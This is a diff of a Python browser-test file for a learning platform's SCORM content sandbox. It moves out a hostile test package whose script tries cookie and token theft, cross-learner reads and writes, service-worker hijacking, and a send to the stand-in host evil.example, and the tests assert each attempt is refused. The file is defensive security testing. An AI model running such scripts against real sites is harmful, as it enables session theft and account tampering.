@@ -16,60 +16,20 @@ from lms.xapi.models import StoredStatement
 from tests.factories.content import make_scorm, make_session
 from tests.journeys.conftest import Server
 from tests.journeys.content.conftest import Learner, launcher, sco
+from tests.journeys.content.packages import HOSTILE
 
 pytestmark = pytest.mark.browser
 Made = Callable[..., Learner]
-
-HOSTILE = b"""<!doctype html><html lang="en"><meta charset="utf-8"><title>Trojan</title><p id="at">Here</p>
-<script>
-async function attempt(name, does) {
-  try { return [name, 'got', String(await does()).slice(0, 300)] } catch (fault) { return [name, 'refused', String(fault).slice(0, 200)] }
-}
-async function harm(pages, victim) {
-  const read = async (url, options) => { const a = await fetch(url, options); return a.status + ' ' + (await a.text()).slice(0, 200) }
-  const all = { credentials: 'include' }
-  return await Promise.all([
-    attempt('page as the user', () => read(pages + '/en/learning', all)),
-    attempt('page, opaque', async () => (await fetch(pages + '/en/learning', { ...all, mode: 'no-cors' })).type),
-    attempt('api as the user', () => read(pages + '/api/v1/me', all)),
-    attempt('form as the user', () => read(pages + '/en/profile', { ...all, method: 'POST', body: new URLSearchParams({ display_name: 'Owned' }) })),
-    attempt('cookies', () => document.cookie || Promise.reject('none')),
-    attempt('cookies above', () => top.document.cookie),
-    attempt('storage above', () => top.localStorage.length),
-    attempt('the page above', () => top.document.body.innerHTML),
-    attempt('the form token above', () => top.document.querySelector('[name=csrf_token]').value),
-    attempt('navigate the app', () => { top.location.href = 'about:blank#taken'; return 'asked' }),
-    attempt('service worker', () => navigator.serviceWorker.register('worker.js').then(() => 'registered')),
-    attempt('service worker of the host', () => navigator.serviceWorker.register('/c/x.js', { scope: '/' }).then(() => 'registered')),
-    attempt('state of another', () => read(pages + '/run/' + victim.run + '/scorm')),
-    attempt('commit of another', () => read(pages + '/run/' + victim.run + '/scorm/commit', { method: 'POST', body: JSON.stringify({ cmi: { core: { lesson_status: 'passed' } } }) })),
-    attempt('files of another', () => read('/c/' + victim.token + '/sco.html')),
-    attempt('statement', () => read(pages + '/xapi/statements', { ...all, method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Experience-API-Version': '1.0.3' }, body: JSON.stringify(victim.statement) })),
-    attempt('state documents', () => read(pages + '/xapi/activities/state?activityId=x&agent=' + encodeURIComponent(JSON.stringify(victim.statement.actor)), { ...all, headers: { 'X-Experience-API-Version': '1.0.3' } })),
-    attempt('send it away', () => new Promise((sent, refused) => {
-      addEventListener('securitypolicyviolation', event => refused(event.violatedDirective + ' ' + event.blockedURI), { once: true })
-      fetch('http://evil.example/', { mode: 'no-cors' }).then(() => sent('sent'), () => {})
-    })),
-  ])
-}
-async function frame(pages) {
-  const frame = document.createElement('iframe')
-  document.body.append(frame)
-  const loaded = new Promise(done => { frame.onload = () => done('loaded'); setTimeout(() => done('silent'), 3000) })
-  frame.src = pages + '/en/profile'
-  await loaded
-  try { return frame.contentDocument ? frame.contentDocument.body.innerText : 'nothing to read' } catch (fault) { return 'nothing to read' }
-}
-function shout(text) {  // what our launchers say to the page around them
-  parent.parent.postMessage({ llwybr: text }, '*'); top.postMessage({ llwybr: text, url: 'http://evil.example' }, '*')
-}
-</script></html>"""
 
 
 @pytest.fixture
 def scene(live: tuple[Server, Flask], learner: Made) -> tuple[Learner, Page, dict[str, Any]]:
     """The package runs for one learner; another has a session of their own, whose token it can only guess."""
-    villain = learner(make_scorm(files={"sco.html": HOSTILE, "worker.js": b"self.onfetch = e => e.respondWith(new Response('owned'))"}))
+    villain = learner(
+        make_scorm(
+            files={"sco.html": HOSTILE, "worker.js": b"self.onfetch = e => e.respondWith(new Response('owned'))"}
+        )
+    )
     victim = learner(make_scorm(files={"sco.html": b"<p>victim"}))
     session, _key, _secret = make_session(victim.registration)
     page = villain.opens()
@@ -87,7 +47,9 @@ def scene(live: tuple[Server, Flask], learner: Made) -> tuple[Learner, Page, dic
 def test_nothing_of_the_app_or_of_another_learner_is_reached(scene: tuple[Learner, Page, dict[str, Any]]) -> None:
     villain, page, guessed = scene
     before = page.url
-    results = sco(page).locator("body").evaluate("(_, [pages, victim]) => harm(pages, victim)", [villain.server.url, guessed])
+    results = (
+        sco(page).locator("body").evaluate("(_, [pages, victim]) => harm(pages, victim)", [villain.server.url, guessed])
+    )
     said = {name: (how, what) for name, how, what in results}
     assert len(said) == 18
     for name in (
@@ -96,11 +58,15 @@ def test_nothing_of_the_app_or_of_another_learner_is_reached(scene: tuple[Learne
     ):  # fmt: skip
         assert said[name][0] == "refused", (name, said[name])
     assert said["send it away"][1] == "connect-src http://evil.example/"
-    assert said["navigate the app"][0] == "refused" and page.url == before
+    assert said["navigate the app"][0] == "refused"
+    assert page.url == before
     assert said["page, opaque"][1] in ("opaque", "opaqueredirect") or said["page, opaque"][0] == "refused"
     for name, status in (("state of another", "403"), ("commit of another", "403"), ("files of another", "410")):
         assert said[name][1].startswith(status), (name, said[name])
-    for name in ("statement", "state documents"):  # any origin may ask the record store; without a credential it says no
+    for name in (
+        "statement",
+        "state documents",
+    ):  # any origin may ask the record store; without a credential it says no
         assert said[name][0] == "refused" or said[name][1].startswith("401"), (name, said[name])
     villain.again()
     assert villain.person.display_name != "Owned"
@@ -121,7 +87,12 @@ def test_what_it_shouts_changes_words_and_never_records(scene: tuple[Learner, Pa
     page.wait_for_timeout(500)
     assert page.url.startswith(villain.server.url)
     villain.again()
-    assert db.session.scalar(select(func.count()).select_from(Evidence).where(Evidence.registration_id == villain.registration.id)) == 0
+    assert (
+        db.session.scalar(
+            select(func.count()).select_from(Evidence).where(Evidence.registration_id == villain.registration.id)
+        )
+        == 0
+    )
     assert {json.loads(each) == {} for each in db.session.scalars(
         select(Attempt.data).where(Attempt.registration_id == villain.registration.id))} == {True}  # fmt: skip
 
@@ -131,7 +102,11 @@ def test_there_is_no_cookie_on_the_contents_origin(scene: tuple[Learner, Page, d
     origin = villain.app.config["CONTENT_ORIGIN"]
     assert villain.context.cookies(origin) == []
     asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.headers.get("cookie", "")) if request.url.startswith(origin) else None)
+    page.on(
+        "request",
+        lambda request: asked.append(request.headers.get("cookie", "")) if request.url.startswith(origin) else None,
+    )
     page.reload()
     expect(launcher(page).locator("iframe.fill")).to_be_visible()
-    assert asked and set(asked) == {""}
+    assert asked
+    assert set(asked) == {""}
